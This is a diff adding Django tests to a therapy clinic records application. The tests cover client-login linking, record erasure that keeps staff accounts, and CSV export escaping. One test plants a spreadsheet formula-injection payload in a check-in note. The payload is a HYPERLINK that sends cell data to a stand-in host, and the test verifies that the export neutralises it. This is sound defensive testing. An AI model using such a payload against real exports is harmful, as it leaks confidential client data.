@@ -6,9 +6,11 @@ import json
 import zipfile
 
 import pytest
+from django.core.exceptions import ValidationError
 from django.db import connection
 from knox.models import AuthToken
 
+from clients import records
 from clients.models import CheckIn, Client, Completion
 from clinic.models import AuditEvent, Session, User
 from reports.models import WeeklySummary
@@ -152,3 +154,41 @@ def test_the_plain_admin_delete_is_not_offered(client, clinic_admin, full_record
     response = client.post(f"/admin/clients/client/{full_record.pk}/delete/", {"post": "yes"})
     assert response.status_code == 403
     assert Client.objects.filter(pk=full_record.pk).exists()
+
+
+@pytest.mark.django_db
+def test_a_client_can_only_be_linked_to_a_client_login(client, clinic_admin, clinic):
+    client.force_login(clinic_admin)
+    form = client.get("/admin/clients/client/add/").context["adminform"].form
+    roles = set(form.fields["user"].queryset.values_list("role", flat=True))
+    assert roles <= {"client"}
+    staff = factories.TherapistFactory(clinic=clinic)
+    record = Client(clinic=clinic, user=staff.user, primary_therapist=staff, label="Wrong link")
+    with pytest.raises(ValidationError) as error:
+        record.full_clean()
+    assert "user" in error.value.message_dict
+
+
+@pytest.mark.django_db
+def test_erasing_a_record_linked_to_a_staff_login_keeps_that_login(clinic_admin, clinic, rf):
+    staff_user = factories.ClinicAdminFactory(clinic=clinic)
+    therapist = factories.TherapistFactory(clinic=clinic)
+    record = Client.objects.create(
+        clinic=clinic, user=staff_user, primary_therapist=therapist, label="Linked by mistake"
+    )
+    request = rf.post("/")
+    request.user = clinic_admin
+    records.client_erase(client=record, request=request)
+    assert not Client.objects.filter(pk=record.pk).exists()
+    assert User.objects.filter(pk=staff_user.pk).exists()
+
+
+@pytest.mark.django_db
+def test_a_formula_in_a_note_is_exported_as_text(client, clinic_admin, client_record):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    factories.CheckInFactory(client=client_record, note=formula)
+    client.force_login(clinic_admin)
+    archive = zipfile.ZipFile(io.BytesIO(export(client, client_record.pk, "zip").content))
+    check_ins = list(csv.DictReader(io.StringIO(archive.read("check_ins.csv").decode())))
+    assert check_ins[0]["note"] == "'" + formula
+    assert check_ins[0]["distress"] == "5"  # numbers stay numbers
